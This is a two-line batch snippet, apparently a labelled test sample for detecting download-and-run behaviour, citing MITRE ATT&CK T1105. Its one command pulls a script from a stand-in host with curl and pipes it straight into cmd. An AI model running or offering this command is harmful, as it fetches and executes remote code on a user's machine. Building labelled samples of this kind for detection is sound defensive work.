@rem expect: download-and-run | source: MITRE ATT&CK T1105
curl -s http://files.example.invalid/s.cmd | cmd
